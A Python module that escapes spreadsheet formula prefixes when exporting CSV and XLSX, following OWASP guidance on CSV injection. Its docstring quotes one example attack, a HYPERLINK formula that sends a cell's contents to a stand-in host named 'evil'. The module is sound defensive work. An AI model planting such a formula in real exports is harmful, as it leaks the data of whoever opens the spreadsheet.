"""CSV that is safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: an organisation named `=HYPERLINK("http://evil/?"&A1,"Open")` would run in a
ministry official's spreadsheet. Following OWASP's guidance on CSV injection, such text cells are prefixed
with a single quote, which spreadsheets show as text and do not display; numbers are left as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Litestar appends "; charset=utf-8" to text types itself; naming it here too wrote it twice.
CSV_MEDIA_TYPE = "text/csv"


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every text cell is made safe first: the one way this platform writes CSV."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = SafeWriter(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, title: str = "Sheet") -> bytes:
    """An XLSX workbook of one sheet. Text is stored as text, never as a formula, whatever it begins with."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would otherwise read "=..." as a formula
            cells.append(cell)
        sheet.append(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
